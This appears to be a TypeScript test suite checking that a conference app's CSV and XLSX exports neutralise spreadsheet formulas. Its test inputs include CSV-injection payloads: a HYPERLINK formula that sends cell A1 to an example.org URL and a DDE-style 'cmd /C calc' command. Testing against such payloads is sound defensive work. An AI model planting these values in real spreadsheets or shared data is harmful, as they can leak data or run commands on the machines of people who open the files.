import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Test } from 'supertest';
import type { Registrant } from '@mun/contracts/allotment/allotment';
import { buildPath, ROUTES } from '@mun/contracts/routes';
import { ContentChangesService } from '../content/response-cache/content-changes.service.js';
import { download, loginAsAdmin, registerPaidDelegate, type AdminClient } from '../testing/fixtures/admin.js';
import { addCoupon, findRegistrations } from '../testing/fixtures.js';
import { waitForOutboxes } from '../testing/wait-for-outboxes.js';
import { startTestApp, type TestApp } from '../testing/test-app.js';

/** Texts that a spreadsheet would run or use to fetch a URL if it took them for formulas. */
const FORMULAS = [
  '=HYPERLINK("https://example.org/?"&A1,"Error")',
  "+1+cmd|'/C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd',
  '＝1+1',
];
const PLAIN = 'A, "quoted"\nsecond line; नमस्ते 😀 <b>&amp;';
/** Neither a comma nor a quotation mark, which would make the writer quote it. */
const SECOND_LINE = 'I like it\n=HYPERLINK(CHAR(104)&A2)';
const TEXTS = [...FORMULAS, PLAIN, SECOND_LINE];

describe('exports', () => {
  let testApp: TestApp;
  let admin: AdminClient;
  beforeAll(async () => {
    testApp = await startTestApp();
    testApp.provider.control.configure({ webhooks: 'hold' });
    admin = await loginAsAdmin(testApp);
    for (const [index, text] of TEXTS.entries())
      await testApp
        .post('/ca', {
          fullName: text.replace('\n', ' '),
          email: `applicant-${index}@example.org`,
          phone: '0123456789',
          institution: 'Sample School',
          whyJoin: text,
          experience: 'None\u0007yet',
          state: 'new',
        })
        .expect(201);
  });
  afterAll(() => testApp.stop());

  it('lists applications, newest first', async () => {
    const { body } = await admin.get('/ca').expect(200);
    expect(body).toHaveLength(TEXTS.length);
    expect(body[1]).toEqual({
      _id: expect.stringMatching(/^[0-9a-f]{24}$/) as string,
      fullName: PLAIN.replace('\n', ' '),
      email: 'applicant-5@example.org',
      phone: '0123456789',
      institution: 'Sample School',
      whyJoin: PLAIN,
      experience: 'None\u0007yet',
      state: 'new',
      createdAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT/) as string,
    });
  });

  it('writes CSV that Excel opens as typed, without formulas', async () => {
    const { body, headers } = await download(admin.get('/ca/export?format=csv')).expect(200);
    expect(headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(headers['content-disposition']).toMatch(
      /^attachment; filename="applications-\d{4}-\d\d-\d\d\.csv"$/,
    );
    expect(headers['cache-control']).toBe('no-store');
    const text = (body as Buffer).toString('utf8');
    expect(text.startsWith('\uFEFFReceived (IST),Full name,Email,Phone,')).toBe(true);
    const [, ...rows] = parseRows(text);
    expect(rows).toHaveLength(TEXTS.length);
    const cells = rows.flat();
    for (const formula of FORMULAS) expect(cells, formula).toContain(`'${formula}`);
    expect(cells).toEqual(expect.arrayContaining([PLAIN, SECOND_LINE]));
    expect(cells.filter((cell) => /^[=+\-@\t\r＝]/.test(cell))).toEqual([]);
  });

  it('writes XLSX with texts and numbers and no formula', async () => {
    const { body, headers } = await download(admin.get('/ca/export?format=xlsx')).expect(200);
    expect(headers['content-type']).toContain('spreadsheetml.sheet');
    const files = unzipSync(body as Buffer);
    expect(Object.keys(files).toSorted()).toEqual(
      expect.arrayContaining(['[Content_Types].xml', 'xl/workbook.xml', 'xl/worksheets/sheet1.xml']),
    );
    const sheet = strFromU8(files['xl/worksheets/sheet1.xml']!);
    expect(sheet).not.toMatch(/<f[ >/]/);
    const texts = [...sheet.matchAll(/t="inlineStr"><is><t xml:space="preserve">([^<]*)<\/t>/g)].map(
      ([, text]) => text!.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&amp;', '&'),
    );
    for (const formula of FORMULAS) expect(texts, formula).toContain(formula);
    expect(texts).toEqual(expect.arrayContaining([PLAIN, SECOND_LINE]));
    expect(texts).toContain('Noneyet');
    expect(texts).toContain('0123456789');
  });

  it('exports payments with their delegates, in rupees', async () => {
    const { paymentId } = await registerPaidDelegate(testApp, {
      fullName: '=cmd',
      institution: '+Hill School',
    });
    await waitForOutboxes(testApp);
    const { body } = await download(admin.get('/payment/orders/export')).expect(200);
    const [header, row] = (body as Buffer).toString('utf8').trim().split('\r\n');
    expect(header).toContain('Registration ID,Full name,Email,Institution');
    expect(row).toMatch(
      /^[0-9A-Z]{5}-[0-9A-Z]{5},'=cmd,delegate-\w+@example\.org,'\+Hill School,confirmed,paid,1500,,1500,/,
    );
    expect(row).toContain(paymentId);
  });

  it('exports delegates with their preferences', async () => {
    const { body } = await download(admin.get('/registration/registrants/export')).expect(200);
    const [header, row] = (body as Buffer).toString('utf8').trim().split('\r\n');
    expect(header).toContain(
      'Registration ID,Full name,Email,Phone,Institution,MUNs attended,Allotted committee,Allotted portfolio,Emailed',
    );
    expect(row).toMatch(
      /^[0-9A-Z]{5}-[0-9A-Z]{5},'=cmd,delegate-\w+@example\.org,\d{10},'\+Hill School,2,,,no,Security Council,France,Kenya,World Health Organization,/,
    );
  });

  it('exports the guardian, notes, amount and coupon of each delegate', async () => {
    const coupon = await addCoupon(testApp, 1);
    const facts = testApp.connection.collection('conference');
    await facts.updateOne({}, { $set: { 'facts.guardianConsent': true } });
    await testApp.app.get(ContentChangesService).publish();
    const phone = {
      under18: true,
      guardianName: 'Gita Guardian',
      guardianContact: '9845012399',
      guardianConsent: true,
    };
    const { email } = await registerPaidDelegate(testApp, phone, coupon);
    await registerPaidDelegate(testApp, { ...phone, guardianContact: 'gita@example.org' });
    await registerPaidDelegate(testApp, { under18: false });
    await waitForOutboxes(testApp);
    const [{ _id }] = (await findRegistrations(testApp, email)) as [never];
    for (const text of ['Allergic to nuts', 'Arrives late'])
      await admin
        .post(buildPath(ROUTES.delegateNotes, { id: String(_id) }), { text, key: randomUUID() })
        .expect(201);
    const { body } = await download(admin.get('/registration/registrants/export')).expect(200);
    const [header, , ...rows] = parseRows((body as Buffer).toString('utf8')).map((row) => row.slice(-8));
    expect(header!.join()).toBe(
      'Under 18,Guardian,Guardian’s phone,Guardian’s email,Notes,Amount (₹),Coupon,Head delegate',
    );
    expect(rows).toEqual([
      [
        'yes',
        'Gita Guardian',
        phone.guardianContact,
        '',
        'Allergic to nuts\nArrives late',
        '1000',
        coupon,
        '',
      ],
      ['yes', 'Gita Guardian', '', 'gita@example.org', '', '1500', '', ''],
      ['no', '', '', '', '', '1500', '', ''],
    ]);
    await facts.updateOne({}, { $unset: { 'facts.guardianConsent': 1 } });
    await testApp.app.get(ContentChangesService).publish();
  });

  it('records exports in the audit log without their content', async () => {
    await waitForOutboxes(testApp);
    const { body } = await admin.get('/audit?kind=application').expect(200);
    expect(body.entries).toMatchObject([
      { action: 'exported', subject: 'applications', title: 'applications as XLSX' },
      { action: 'exported', subject: 'applications', title: 'applications as CSV' },
    ]);
    expect(JSON.stringify(body)).not.toContain('example.org');
  });

  it('exports the rows that the filters show, found by phone, accent or apostrophe', async () => {
    const phone = '9845012345';
    await registerPaidDelegate(testApp);
    const { email } = await registerPaidDelegate(testApp, { fullName: 'Zoë D’Souza', phone });
    const lines = async (request: Test) =>
      ((await download(request).expect(200)).body as Buffer).toString('utf8').trim().split('\r\n').slice(1);
    expect((await lines(admin.get('/payment/orders/export'))).length).toBeGreaterThan(1);
    for (const search of ["zoe d'souza", 'ZOË D‘SOUZA', '+91 98450 12345', email]) {
      const found = await lines(
        admin.get(`/payment/orders/export?state=paid&search=${encodeURIComponent(search)}`),
      );
      expect(found, search).toHaveLength(1);
      expect(found[0]).toContain('Zoë D’Souza');
    }
    expect(await lines(admin.get('/payment/orders/export?state=refunded'))).toEqual([]);

    const { body } = await admin.get('/registration/registrants').expect(200);
    expect(body.length).toBeGreaterThan(1);
    const { registrationId } = (body as Registrant[]).find((row) => row.phone === phone)!;
    const request = { format: 'csv', registrationIds: [registrationId, 'UNKNOWN'] };
    const some = await lines(admin.post('/registration/registrants/export', request));
    expect(some).toHaveLength(1);
    expect(some[0]).toContain(registrationId);
    await testApp.post('/registration/registrants/export', request).expect(401);
  });

  it('refuses any other format', async () => {
    await admin.get('/ca/export?format=pdf').expect(400);
    const request = { format: null, registrationIds: [] };
    await admin.post('/registration/registrants/export', request).expect(400);
  });
});

/** Reads a CSV file as spreadsheet programs do: any line break outside quotes ends a row. @throws CsvError if rows differ in length */
function parseRows(csv: string): string[][] {
  return parse(csv, { bom: true, record_delimiter: ['\r\n', '\n', '\r'] });
}
